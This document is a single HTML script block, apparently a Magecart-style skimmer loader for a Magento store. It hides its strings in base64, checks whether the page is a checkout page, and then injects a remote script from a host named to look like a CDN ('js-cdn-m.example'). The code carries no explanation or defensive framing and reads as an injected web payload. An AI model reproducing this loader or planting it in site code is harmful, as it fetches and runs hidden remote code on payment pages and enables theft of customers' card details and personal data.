<script type="text/javascript">
(function(){ var m = atob('bWFnZW50bw=='), k = location.href; if(k.indexOf('checkout')>=0 && !window['x_'+m]){ window['x_'+m]=1; var t=document.createElement('script'); t.setAttribute('src', atob('Ly9qcy1jZG4tbS5leGFtcGxlL20uanM=')); document.getElementsByTagName('head').item(0).appendChild(t);} })();
</script>
